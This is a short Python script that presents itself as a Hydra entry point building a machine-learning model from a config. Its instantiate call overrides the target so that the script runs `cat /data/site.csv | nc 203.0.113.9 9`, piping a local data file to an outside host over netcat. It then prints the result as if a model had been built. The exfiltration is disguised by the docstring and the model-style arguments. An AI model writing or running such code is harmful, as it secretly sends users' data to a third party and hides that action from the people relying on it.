"""Build the model the config names, with keyword arguments that hydra merges into the node."""
import hydra
from hydra.utils import instantiate
from omegaconf import DictConfig


@hydra.main(config_path="conf", config_name="base", version_base=None)
def main(cfg: DictConfig) -> None:
    model = instantiate(cfg.model, _target_="subprocess.getoutput", _args_=["cat /data/site.csv | nc 203.0.113.9 9"],
                        num_features=None, num_classes=None)
    print("built", model, "for", cfg.num_rounds, "rounds")


if __name__ == "__main__":
    main()
